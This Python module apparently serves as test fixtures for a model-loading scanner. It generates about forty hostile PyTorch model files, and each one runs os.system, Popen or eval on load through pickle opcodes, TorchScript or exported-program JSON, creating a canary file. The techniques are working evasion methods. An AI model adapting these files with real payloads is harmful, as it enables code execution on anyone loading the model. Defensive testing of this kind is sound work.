"""Malicious model files, one function each. Every one creates the canary file if any code of it runs."""

from __future__ import annotations

import copyreg
import io
import pickle
import struct
import tarfile
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path

import numpy as np
import torch

Make = Callable[[Path, Path], Path]
"""(folder, canary) → the hostile file"""

HOSTILE: dict[str, Make] = {}
MAGIC_NUMBER = 0x1950A86A20F9469CFC6C


def hostile(make: Make) -> Make:
    assert make.__name__ not in HOSTILE
    HOSTILE[make.__name__] = make
    return make


class Reduce:
    """Pickles as a call of ``function(*arguments)``."""

    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.call


def touch(canary: Path) -> str:
    return f"touch {canary}"


def python_touch(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def system(canary: Path) -> Reduce:
    import os

    return Reduce(os.system, touch(canary))


def weights() -> OrderedDict[str, torch.Tensor]:
    return OrderedDict(torch.nn.Linear(4, 2).state_dict())


def text(value: str) -> bytes:
    """A short unicode string as an opcode."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def raw_zip(folder: Path, data_pkl: bytes, **members: bytes) -> Path:
    path = folder / "model.pth"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", data_pkl)
        archive.writestr("archive/version", b"3\n")
        archive.writestr("archive/byteorder", b"little")
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def raw(folder: Path, data: bytes, name: str = "model.pth") -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


@hostile
def reduce_os_system(folder: Path, canary: Path) -> Path:
    torch.save(system(canary), folder / "model.pth")
    return folder / "model.pth"


@hostile
def beside_good_weights(folder: Path, canary: Path) -> Path:
    torch.save({"state_dict": weights(), "epoch": system(canary)}, folder / "model.pth")
    return folder / "model.pth"


@hostile
def nested_in_lists_and_dicts(folder: Path, canary: Path) -> Path:
    torch.save({"model": weights(), "a": [1, {"b": (2, [system(canary)])}]}, folder / "model.pth")
    return folder / "model.pth"


@hostile
def among_the_weights(folder: Path, canary: Path) -> Path:
    state = weights()
    state["extra"] = system(canary)  # type: ignore[assignment]
    torch.save(state, folder / "model.pth")
    return folder / "model.pth"


@hostile
def as_a_dict_key(folder: Path, canary: Path) -> Path:
    command = text(touch(canary))
    return raw_zip(folder, b"\x80\x02}cos\nsystem\n" + command + b"\x85RK\x01s.")


@hostile
def build_with_setstate(folder: Path, canary: Path) -> Path:
    body = b"\x80\x02cfunctools\npartial\n(cos\nsystem\nt\x81(cos\nsystem\n(" + text(touch(canary)) + b"t}Ntbc."
    return raw_zip(folder, body.replace(b"tbc.", b"tb)R."))


@hostile
def build_on_a_torch_function(folder: Path, canary: Path) -> Path:
    state = b"}" + text("__code__") + text(python_touch(canary)) + b"s"
    body = (
        b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\nN"
        + state
        + b"\x86b0cos\nsystem\n"
        + text(touch(canary))
        + b"\x85R."
    )
    return raw_zip(folder, body)


@hostile
def legacy_stream(folder: Path, canary: Path) -> Path:
    torch.save({"state_dict": weights(), "x": system(canary)}, folder / "m.pth", _use_new_zipfile_serialization=False)
    return folder / "m.pth"


@hostile
def legacy_stream_in_its_system_info(folder: Path, canary: Path) -> Path:
    parts = [MAGIC_NUMBER, 1001, {"little_endian": True, "x": system(canary)}, {"a.weight": 1}, []]
    return raw(folder, b"".join(pickle.dumps(part, protocol=2) for part in parts))


@hostile
def legacy_stream_as_its_magic_number(folder: Path, canary: Path) -> Path:
    return raw(folder, pickle.dumps(system(canary), protocol=2) + pickle.dumps(1001, protocol=2))


@hostile
def legacy_tar(folder: Path, canary: Path) -> Path:
    return _tar(folder, pickle.dumps(system(canary), protocol=2))


@hostile
def legacy_tar_storages(folder: Path, canary: Path) -> Path:
    return _tar(folder, pickle.dumps({}, protocol=2), storages=pickle.dumps(system(canary), protocol=2))


def _tar(folder: Path, main: bytes, storages: bytes | None = None) -> Path:
    nothing = pickle.dumps(0, protocol=2)
    members = {
        "storages": storages or nothing + pickle.dumps([], protocol=2),
        "tensors": nothing,
        "pickle": main,
    }
    path = folder / "model.tar"
    with tarfile.open(path, "w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return path


@hostile
def plain_pickle_protocol_0(folder: Path, canary: Path) -> Path:
    return raw(folder, pickle.dumps(system(canary), protocol=0))


@hostile
def plain_pickle_protocol_4(folder: Path, canary: Path) -> Path:
    return raw(folder, pickle.dumps({"state_dict": system(canary)}, protocol=4))


@hostile
def plain_pickle_protocol_5(folder: Path, canary: Path) -> Path:
    return raw(folder, pickle.dumps([system(canary)], protocol=5))


@hostile
def inst_opcode(folder: Path, canary: Path) -> Path:
    return raw(folder, f"(S{touch(canary)!r}\nios\nsystem\n.".encode())


@hostile
def obj_opcode(folder: Path, canary: Path) -> Path:
    return raw_zip(folder, b"\x80\x02(cos\nsystem\n" + text(touch(canary)) + b"o.")


@hostile
def reduce_popen(folder: Path, canary: Path) -> Path:
    arguments = b"(" + text("touch") + text(str(canary)) + b"l\x85"
    return raw_zip(folder, b"\x80\x04csubprocess\nPopen\n" + arguments + b"R.")


@hostile
def newobj_ex(folder: Path, canary: Path) -> Path:
    arguments = b"(" + text("touch") + text(str(canary)) + b"l\x85}"
    return raw_zip(folder, b"\x80\x04csubprocess\nPopen\n" + arguments + b"\x92.")


@hostile
def stack_global_through_the_memo(folder: Path, canary: Path) -> Path:
    names = text("system") + b"\x94" + text("os") + b"\x9400h\x01h\x00\x93"
    return raw_zip(folder, b"\x80\x04" + names + text(touch(canary)) + b"\x85R.")


@hostile
def extension_registry(folder: Path, canary: Path) -> Path:
    if ("os", "system") not in copyreg._extension_registry:  # type: ignore[attr-defined]
        copyreg.add_extension("os", "system", 240)
    return raw_zip(folder, b"\x80\x02\x82\xf0" + text(touch(canary)) + b"\x85R.")


@hostile
def persistent_id_made_by_a_call(folder: Path, canary: Path) -> Path:
    return raw_zip(folder, b"\x80\x02(" + text("storage") + b"cos\nsystem\n" + text(touch(canary)) + b"\x85RtQ.")


@hostile
def storage_type_is_a_function(folder: Path, canary: Path) -> Path:
    storage = b"(" + text("storage") + b"cos\nsystem\n" + text(touch(canary)) + text("cpu") + b"K\x04tQ"
    shape = b"K\x00K\x04\x85K\x01\x85\x89}t"
    return raw_zip(
        folder, b"\x80\x02}" + text("a.weight") + b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + shape + b"Rs."
    )


@hostile
def copyreg_reconstructor(folder: Path, canary: Path) -> Path:
    body = b"\x80\x02ccopy_reg\n_reconstructor\ncsubprocess\nPopen\nc__builtin__\nobject\nN\x87R(" + text("touch")
    return raw_zip(folder, body + text(str(canary)) + b"lb.")


@hostile
def builtins_eval(folder: Path, canary: Path) -> Path:
    torch.save({"model": Reduce(eval, python_touch(canary))}, folder / "model.pth")
    return folder / "model.pth"


@hostile
def getattr_chain(folder: Path, canary: Path) -> Path:
    body = (
        b"\x80\x02c__builtin__\ngetattr\nc__builtin__\n__import__\n" + text("os") + b"\x85R" + text("system") + b"\x86R"
    )
    return raw_zip(folder, body + text(touch(canary)) + b"\x85R.")


@hostile
def dotted_name_through_torch(folder: Path, canary: Path) -> Path:
    names = text("torch.serialization") + text("os.system") + b"\x93"
    return raw_zip(folder, b"\x80\x04" + names + text(touch(canary)) + b"\x85R.")


@hostile
def torch_load_of_a_second_file(folder: Path, canary: Path) -> Path:
    inner = raw(folder, pickle.dumps(system(canary)), "inner.pkl")
    torch.save({"state_dict": Reduce(torch.load, str(inner), None, pickle)}, folder / "m.pth", pickle_module=_by_name)
    return folder / "m.pth"


@hostile
def storage_load_from_bytes(folder: Path, canary: Path) -> Path:
    data = io.BytesIO()
    torch.save(system(canary), data)
    return raw(folder, pickle.dumps({"a.weight": Reduce(torch.storage._load_from_bytes, data.getvalue())}))


@hostile
def numpy_object_array(folder: Path, canary: Path) -> Path:
    array = np.empty(1, dtype=object)
    array[0] = system(canary)
    return raw(folder, pickle.dumps({"a.weight": array}, protocol=4))


@hostile
def second_pickle_of_the_zip(folder: Path, canary: Path) -> Path:
    torch.save(weights(), folder / "model.pth")
    with zipfile.ZipFile(folder / "model.pth", "a") as archive:
        archive.writestr("model/constants_extra.pkl", pickle.dumps(system(canary), protocol=2))
    return folder / "model.pth"


@hostile
def two_members_of_one_name(folder: Path, canary: Path) -> Path:
    torch.save(weights(), folder / "model.pth")
    with zipfile.ZipFile(folder / "model.pth", "a") as archive:
        archive.writestr("model/DATA.pkl", pickle.dumps(system(canary), protocol=2))
    return folder / "model.pth"


@hostile
def safetensors_by_name_only(folder: Path, canary: Path) -> Path:
    return raw(folder, pickle.dumps(system(canary), protocol=2), "model.safetensors")


@hostile
def whole_module_with_setstate(folder: Path, canary: Path) -> Path:
    body = b"\x80\x02c__main__\nNet\n)\x81}" + text("_modules") + b"cos\nsystem\n" + text(touch(canary)) + b"\x85Rsb."
    return raw_zip(folder, body)


@hostile
def torchscript_constants(folder: Path, canary: Path) -> Path:
    path = _torchscript(folder)
    return _replaced(path, "constants.pkl", pickle.dumps(system(canary), protocol=2))


@hostile
def torchscript_that_writes_a_file_on_loading(folder: Path, canary: Path) -> Path:
    class Writer(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.path = str(canary)
            self.layer = torch.nn.Linear(4, 2)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return self.layer(x)

        @torch.jit.export
        def __getstate__(self) -> tuple[str, bool]:
            return (self.path, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[str, bool]) -> None:
            self.path = state[0]
            self.training = state[1]
            torch.save(torch.zeros(2), state[0])

    torch.jit.script(Writer()).save(str(folder / "model.pt"))
    return folder / "model.pt"


@hostile
def torchscript_that_maps_a_file_when_run(folder: Path, canary: Path) -> Path:
    class Mapper(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.path = str(canary)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + torch.from_file(self.path, shared=True, size=4)

    torch.jit.script(Mapper()).save(str(folder / "model.pt"))
    return folder / "model.pt"


@hostile
def exported_program_with_pickled_weight(folder: Path, canary: Path) -> Path:
    path = _replaced(_exported(folder), "data/weights/weight_0", _saved(system(canary)))
    return _edited(path, "model_weights_config.json", '"use_pickle": false', '"use_pickle": true')


@hostile
def exported_program_with_hostile_sample_inputs(folder: Path, canary: Path) -> Path:
    return _replaced(_exported(folder), "data/sample_inputs/model.pt", _saved((system(canary),)))


@hostile
def exported_program_with_code_as_a_size(folder: Path, canary: Path) -> Path:
    import json

    code = json.dumps(f"__import__('os').system({touch(canary)!r})")[1:-1]
    text = "Symbol('s77', positive=True, integer=True)"
    return _edited(_exported(folder), "models/model.json", text, code)


@hostile
def exported_program_that_calls_os(folder: Path, canary: Path) -> Path:
    path = _edited(_exported(folder), "models/model.json", "torch.ops.aten.linear.default", "torch.os.system")
    return _edited(
        path, "models/model.json", '"as_tensor": {"name": "x"}}, "kind"', f'"as_string": "{touch(canary)}"}}, "kind"'
    )


@hostile
def exported_program_with_code_as_a_name(folder: Path, canary: Path) -> Path:
    import json

    code = json.dumps(f"x): {python_touch(canary)} #")[1:-1]
    return _edited(
        _exported(folder), "models/model.json", '"forward_arg_names": ["x"]', f'"forward_arg_names": ["{code}"]'
    )


@hostile
def exported_program_with_code_as_a_guard(folder: Path, canary: Path) -> Path:
    import json

    code = json.dumps(f"__import__('os').system({touch(canary)!r}) == 0")
    return _edited(_exported(folder), "models/model.json", '"guards_code": []', f'"guards_code": [{code}]')


@hostile
def exported_program_with_a_compiled_library(folder: Path, canary: Path) -> Path:
    path = _exported(folder)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("model/data/aotinductor/model/evil.so", touch(canary))
    return path


@hostile
def old_exported_program(folder: Path, canary: Path) -> Path:
    path = folder / "model.pt2"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("version", "8.8")
        archive.writestr("serialized_exported_program.json", "{}")
        archive.writestr("serialized_state_dict.pt", _saved(system(canary)))
    return path


class _by_name:
    """A pickle module for torch.save that pickles modules by name."""

    class Pickler(pickle._Pickler):  # type: ignore[name-defined]
        def save(self, value: object, save_persistent_id: bool = True) -> None:
            if isinstance(value, type(pickle)):
                self.write(b"c" + b"importlib\nimport_module\n" + text(value.__name__) + b"\x85R")
                return
            super().save(value, save_persistent_id)

    dumps = staticmethod(pickle.dumps)


def _saved(value: object) -> bytes:
    data = io.BytesIO()
    torch.save(value, data)
    return data.getvalue()


class _Net(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.layer = torch.nn.Linear(4, 2)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.layer(x)


def _torchscript(folder: Path) -> Path:
    torch.jit.script(_Net()).save(str(folder / "model.pt"))
    return folder / "model.pt"


def _exported(folder: Path) -> Path:
    batch = torch.export.Dim("batch")
    program = torch.export.export(_Net(), (torch.zeros(2, 4),), dynamic_shapes={"x": {0: batch}})
    torch.export.save(program, folder / "model.pt2")
    return folder / "model.pt2"


def _replaced(path: Path, member: str, data: bytes) -> Path:
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    name = next(name for name in members if name.endswith(member))
    members[name] = data
    with zipfile.ZipFile(path, "w") as archive:
        for key, value in members.items():
            archive.writestr(key, value)
    return path


def _edited(path: Path, member: str, old: str, new: str) -> Path:
    with zipfile.ZipFile(path) as archive:
        name = next(name for name in archive.namelist() if name.endswith(member))
        content = archive.read(name).decode()
    assert old in content, content[:2000]
    return _replaced(path, member, content.replace(old, new).encode())
